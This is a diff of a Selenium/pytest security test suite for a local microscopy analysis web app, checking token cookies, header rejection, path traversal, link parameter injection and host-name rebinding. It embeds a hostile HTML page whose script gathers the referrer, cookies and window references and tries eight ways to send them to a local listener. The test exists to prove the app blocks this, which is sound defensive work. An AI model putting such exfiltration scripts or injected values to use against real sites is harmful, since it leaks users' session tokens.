@@ -2,21 +2,26 @@
 
 from __future__ import annotations
 
+import html
+import http.cookiejar
 import re
 import shutil
 import subprocess
+import threading
 import time
 import urllib.error
 import urllib.request
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from typing import Any
 from urllib.parse import quote
 
 import numpy as np
 import pandas as pd
 import pytest
-from app_page import Page
+from app_page import PATIENCE_S, Page
 from app_results import SERIES_NM
-from browsers import BROWSER, DRIVER
+from browsers import BROWSER, DRIVER, open_browser
 
 import iscat_analysis as ia
 from iscat_cli import main
@@ -28,6 +33,8 @@ pytestmark = pytest.mark.skipif(
 selenium = pytest.importorskip("selenium", reason="needs the Python package selenium")
 pytest.importorskip("panel", reason="needs the Python package panel")
 
+get_token_payload = pytest.importorskip("bokeh.util.token").get_token_payload
+link_to = pytest.importorskip("iscat_app.chosen").link_to
 chains = pytest.importorskip("selenium.webdriver.common.action_chains")
 Keys = pytest.importorskip("selenium.webdriver.common.keys").Keys
 
@@ -47,25 +54,193 @@ def test_nobody_is_let_in_without_the_token(
     address: str, place: str, headers: dict[str, str]
 ) -> None:
     wanted = urllib.request.Request(address.partition("?")[0] + place, headers=headers)
-    with pytest.raises(urllib.error.HTTPError) as refused:
-        urllib.request.urlopen(wanted)
-    with refused.value as answer:
-        assert answer.code == 403
+    assert status(urllib.request.build_opener(), wanted) == 403
 
 
-def test_pages_of_the_commands_are_shown_in_a_sandbox_and_nothing_else_is(
-    address: str, folder: Path
+def status(opener: urllib.request.OpenerDirector, wanted: urllib.request.Request | str) -> int:
+    """Ask for something, and give how it was answered; every answer has the headers."""
+    try:
+        answer = opener.open(wanted, timeout=PATIENCE_S)
+    except urllib.error.HTTPError as refused:
+        answer = refused
+    with answer:
+        assert answer.headers["Referrer-Policy"] == "no-referrer"
+        assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"]
+        return int(answer.status)
+
+
+@pytest.fixture(scope="module")
+def visitor(address: str) -> urllib.request.OpenerDirector:
+    """Visit the window with the token, and keep the cookie, as a browser does."""
+    jar = http.cookiejar.CookieJar()
+    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
+    with opener.open(f"{address}&movie=a%26b%2Fc", timeout=PATIENCE_S) as answer:
+        here, _, token = address.partition("?token=")
+        assert answer.url == f"{here}?movie=a%26b%2Fc"
+        assert answer.headers["Referrer-Policy"] == "no-referrer"
+        assert answer.headers["Content-Security-Policy"] == "frame-ancestors 'none'"
+        page = answer.read().decode()
+    [cookie] = jar
+    assert (cookie.value, cookie.path) == (token, "/")
+    assert cookie.has_nonstandard_attr("HttpOnly")
+    assert cookie.get_nonstandard_attr("SameSite") == "Strict"
+    session = re.search(r'"token":"([^"]*)"', page)  # which a script of the page can read
+    assert session is not None
+    assert token not in page + repr(get_token_payload(session[1]))
+    return opener
+
+
+@pytest.mark.parametrize(
+    ("place", "headers"),
+    [
+        ("", {"Host": "elsewhere.example:{port}"}),
+        ("", {"Host": "127.0.0.1:1"}),
+        ("", {"Origin": "http://elsewhere.example:{port}"}),
+        ("", {"Origin": "http://elsewhere.example:{port}", "Host": "elsewhere.example:{port}"}),
+        ("", {"Origin": "null"}),  # of a page in a sandbox
+        ("", {"Sec-Fetch-Site": "same-site"}),  # a link of another server of this machine
+        ("?bokeh-token=e30", {}),
+        ("?bokeh-session-id=a", {}),
+        ("", {"Bokeh-Session-Id": "a"}),
+        ("autoload.js?bokeh-token=guessed.too", {}),
+        ("ws", WEBSOCKET),
+        ("ws", {**WEBSOCKET, "Sec-WebSocket-Protocol": "bokeh"}),
+        ("ws", {**WEBSOCKET, "Sec-WebSocket-Protocol": "bokeh, W10.guessed"}),
+        ("ws", {**WEBSOCKET, "Sec-WebSocket-Protocol": "bokeh, \xe9.\xe9"}),
+        ("ws", {**WEBSOCKET, "Origin": "http://a.example:{port}", "Host": "a.example:{port}"}),
+    ],
+)
+def test_who_has_the_cookie_is_let_in_as_the_window_alone(
+    visitor: urllib.request.OpenerDirector, address: str, place: str, headers: dict[str, str]
 ) -> None:
-    (folder / "report.html").write_text("<!doctype html><p>of an analysis", encoding="utf-8")
-    here, _, token = address.partition("?")
-    wanted = f"{here}page?{token}&path={quote(str(folder / 'report.html'))}"
-    with urllib.request.urlopen(wanted) as answer:
-        assert answer.read().endswith(b"of an analysis")
-        assert answer.headers["Content-Security-Policy"].startswith("sandbox")
-    with pytest.raises(urllib.error.HTTPError) as refused:
-        urllib.request.urlopen(wanted.replace("report.html", "iscat.toml"))
-    with refused.value as answer:
-        assert answer.code == 404
+    """What fails to be refused without a line of ours is found when the server ends."""
+    here = address.partition("?")[0]
+    port = here.rstrip("/").rpartition(":")[2]
+    sent = {name: value.format(port=port) for name, value in headers.items()}
+    wanted = urllib.request.Request(here + place, headers=sent)
+    wanted.add_header("Cookie", f"iscat_app_{port}={address.partition('?token=')[2]}")
+    assert status(visitor, wanted) == 403
+    plain = urllib.request.Request(here + "nothing", headers={"Cookie": wanted.headers["Cookie"]})
+    assert status(visitor, plain) == 404  # the cookie is a good one
+
+
+@pytest.mark.parametrize(
+    "path", ["a" * 5000, "a" * 5000 + "/report.html", "%00/report.html", "iscat.toml", "/dev/zero"]
+)
+def test_nothing_but_pages_of_the_commands_is_shown(
+    visitor: urllib.request.OpenerDirector, address: str, folder: Path, path: str
+) -> None:
+    place = f"{address.partition('?')[0]}page?path="
+    assert status(visitor, place + path) == 404
+    assert status(visitor, f"{place}{quote(str(folder))}/{path}&inside=yes") == 404
+
+
+class _Listener(BaseHTTPRequestHandler):
+    """Writes down what reaches it."""
+
+    def do_GET(self) -> None:
+        self.server.heard.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    def do_POST(self) -> None:
+        self.do_GET()
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+HOSTILE = """<!doctype html><title>mine</title><p id="said">nothing</p><script>
+const to = "http://127.0.0.1:PORT/", seen = [document.referrer];
+try { seen.push(document.cookie); } catch { seen.push("no cookie"); }
+try { seen.push(top.document.title); } catch { seen.push("no window"); }
+try { seen.push(opener?.location.href ?? "no opener"); } catch { seen.push("no opener"); }
+const what = encodeURIComponent(seen.join()), form = document.createElement("form");
+const tries = [
+  () => fetch(to + what, { mode: "no-cors" }).catch(() => {}),
+  () => { new Image().src = to + what; },
+  () => navigator.sendBeacon(to + what),
+  () => new WebSocket(to.replace("http", "ws") + what),
+  () => open(to + what),
+  () => { top.location = to + what; },
+  () => { form.action = to; document.body.append(form); form.submit(); },
+  () => setTimeout(() => { location = to + what; }, 3000),
+];
+for (const attempt of tries) try { attempt(); } catch { /* refused */ }
+document.getElementById("said").textContent = seen.join("|");
+</script>"""
+
+
+def test_a_page_of_somebody_else_learns_nothing_and_goes_nowhere(
+    driver: Any, address: str, folder: Path
+) -> None:
+    """Red before: it read the token in `document.referrer`, and left for elsewhere with it."""
+    with ThreadingHTTPServer(("127.0.0.1", 0), _Listener) as elsewhere:
+        elsewhere.heard = []
+        threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
+        report = folder / "foreign" / "report.html"
+        report.parent.mkdir()
+        text = HOSTILE.replace("PORT", str(elsewhere.server_port))
+        report.write_text(text, encoding="utf-8")
+        driver.get(address)
+        page = Page(driver)
+        page.says("Choose a movie")
+        assert "token" not in driver.current_url
+        first = driver.current_window_handle
+        link = re.search('href="([^"]*)"', link_to(report, "open"))
+        assert link is not None
+        page.script(  # without `rel`, so that headers alone have to do
+            "const a = document.createElement('a'); a.href = arguments[0]; a.target = '_blank';"
+            "a.textContent = 'the page'; document.body.append(a);",
+            html.unescape(link[1]),
+        )
+        page.click("the page", "a")
+        page.until("it opens", lambda: len(driver.window_handles) == 2)
+        driver.switch_to.window(next(w for w in driver.window_handles if w != first))
+        page.until("its frame is there", lambda: driver.find_elements("tag name", "iframe"))
+        driver.switch_to.frame(0)
+        page.until("its script ran", lambda: page.text() != "nothing" and page.text())
+        assert page.text() == "|no cookie|no window|no opener"
+        page.until("it tried to go", lambda: "chrome-error" in page.script("return location.href"))
+        driver.switch_to.default_content()
+        assert driver.current_url.startswith(address.partition("?")[0])
+        assert driver.title == "foreign"
+        driver.close()
+        driver.switch_to.window(first)
+        elsewhere.shutdown()
+        driver.get_log("browser")  # what was refused is what this test is about
+        driver.get_log("performance")
+        assert elsewhere.heard == []
+
+
+def test_another_name_of_this_machine_opens_nothing(address: str, tmp_path: Path) -> None:
+    """Red before: a name that is mapped to 127.0.0.1 was answered, `Origin` equal to `Host`."""
+    rules = "--host-resolver-rules=MAP elsewhere.example 127.0.0.1"
+    foreign = address.replace("127.0.0.1", "elsewhere.example")
+    with open_browser(tmp_path, rules, logs={}) as driver:
+        for place in (foreign, foreign.partition("?")[0]):  # even who knows the token
+            driver.get(place)
+            assert "needs the token" in driver.page_source
+        socket = "const s = new WebSocket(`ws://${location.host}/ws`, ['bokeh', 'e30']);"
+        socket += "s.onopen = () => arguments[0]('open'); s.onerror = () => arguments[0]('shut');"
+        assert driver.execute_async_script(socket) == "shut"
+        driver.get(address.replace("127.0.0.1", "localhost"))  # a name of ours
+        Page(driver).says("Choose a movie")
+
+
+def test_a_link_chooses_a_movie_and_nothing_else(page: Page, address: str, folder: Path) -> None:
+    movie = quote(str(folder / "landing.tif"))
+    wanted = "scheduler=tcp://1.2.3.4:5&out=/tmp/a&overwrite=yes&config=/tmp/b"
+    page.driver.get(f"{address.partition('?')[0]}?movie={movie}&{wanted}")
+    page.says("landing.tif")
+    page.open("Run")
+    page.says("Where: threads")
+    values = page.bokeh(
+        "return models.filter((m) => m.type.includes('TextInput')).map((m) => m.value)"
+    )
+    assert "threads" in values
+    assert not [value for value in values if "1.2.3.4" in value or "/tmp/a" in value]
+    assert page.bokeh("return models.every((m) => m.type !== 'Checkbox' || !m.active)")
 
 
 def test_from_a_movie_to_a_figure(page: Page, address: str, folder: Path) -> None:
